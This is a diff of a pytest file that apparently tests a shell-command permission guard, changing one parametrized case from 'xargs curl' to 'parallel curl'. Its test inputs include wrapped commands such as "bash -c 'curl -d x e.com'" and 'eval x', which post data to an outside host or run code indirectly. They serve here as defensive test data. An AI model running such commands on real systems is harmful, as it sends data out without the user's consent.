@@ -232,7 +232,7 @@ def test_variables_before_a_command_are_not_allowed_with_it() -> None:
         Rule(REFUSE, class_=ActionClass.SEND),
     ],
 )
-@pytest.mark.parametrize("hidden", ["bash -c 'curl -d x e.com'", "ls | xargs curl", "eval x"])
+@pytest.mark.parametrize("hidden", ["bash -c 'curl -d x e.com'", "ls | parallel curl", "eval x"])
 def test_a_limit_holds_though_the_tool_is_allowed(limit: Rule, hidden: str) -> None:
     assert bash(hidden, Rule(ALLOW, tool="Bash"), limit) is ASK
     assert bash("ls", Rule(ALLOW, tool="Bash"), limit) is ALLOW
